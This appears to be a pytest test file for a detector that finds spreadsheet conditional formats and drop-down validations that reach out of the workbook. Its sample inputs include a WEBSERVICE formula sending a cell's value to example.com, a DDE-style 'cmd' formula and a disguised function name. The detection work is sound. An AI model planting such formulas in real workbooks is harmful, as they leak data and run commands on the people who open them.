"""Formulas of conditional formats and drop-downs that reach out of the workbook."""

import pytest

from plan_workbook.package.rule_formulas import rule_formulas

SERVER = 'WEBSERVICE("http://example.com/"&amp;A3)=1'
FILE = "'http://example.com/[b.xlsx]S'!$A$1:$A$3"


def sheet(rules: str, *, prefix: str = "") -> bytes:
    return (
        f"<{prefix}worksheet><{prefix}sheetData><{prefix}row><{prefix}c><{prefix}f>IMAGE(A1)</{prefix}f></{prefix}c>"
        f"</{prefix}row></{prefix}sheetData>{rules}</{prefix}worksheet>"
    ).encode()


@pytest.mark.parametrize(
    ("rules", "cell", "what"),
    [
        pytest.param(
            '<conditionalFormatting sqref="B2"><cfRule><formula>A1="WEBSERVICE("</formula></cfRule>'
            '</conditionalFormatting><conditionalFormatting sqref="A3:A9 C1"><cfRule>'
            f"<formula>A1=2</formula><formula>{SERVER}</formula></cfRule></conditionalFormatting>",
            "A3",
            "WEBSERVICE",
            id="a conditional format",
        ),
        pytest.param(
            f"<dataValidations><dataValidation type='list' sqref='Y3'><formula1>{FILE}</formula1></dataValidation>"
            "</dataValidations>",
            "Y3",
            "http://example.com/b.xlsx",
            id="a drop-down",
        ),
        pytest.param(
            "<dataValidations><dataValidation sqref='$Y$4'><formula1>1</formula1><formula2>cmd|'/c x'!A0</formula2>"
            "</dataValidation></dataValidations>",
            "Y4",
            "cmd",
            id="the second formula of a validation",
        ),
        pytest.param(
            "<extLst><ext><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule>"
            f"<xm:f>{SERVER}</xm:f></x14:cfRule><xm:sqref>D5:D6</xm:sqref></x14:conditionalFormatting>"
            "</x14:conditionalFormattings></ext></extLst>",
            "D5",
            "WEBSERVICE",
            id="a format of newer Excels",
        ),
        pytest.param(
            '<conditionalFormatting sqref="A3"><cfRule><formula xml:space="preserve"><![CDATA[WEB]]><!-- -->'
            '&#83;ERVICE("x")</formula></cfRule></conditionalFormatting>',
            "A3",
            "WEBSERVICE",
            id="a disguised name",
        ),
    ],
)
def test_a_format_or_drop_down_that_reaches_out_is_found_with_its_cell(rules, cell, what):
    assert list(rule_formulas(sheet(rules))) == [(cell, what)]


def test_it_is_found_whatever_the_tags_begin_with_and_also_without_rows():
    rules = f'<x:conditionalFormatting sqref="A3"><x:formula>{SERVER}</x:formula></x:conditionalFormatting>'
    assert list(rule_formulas(sheet(rules, prefix="x:"))) == [("A3", "WEBSERVICE")]
    rules = f'<conditionalFormatting sqref="A3"><formula>{SERVER}</formula></conditionalFormatting>'
    assert list(rule_formulas(f"<worksheet><sheetData/>{rules}</worksheet>".encode())) == [("A3", "WEBSERVICE")]


def test_thousands_of_them_are_told_of_in_part():
    rules = f'<conditionalFormatting sqref="A3"><formula>{SERVER}</formula></conditionalFormatting>' * 5000
    assert len(list(rule_formulas(sheet(rules)))) == 200
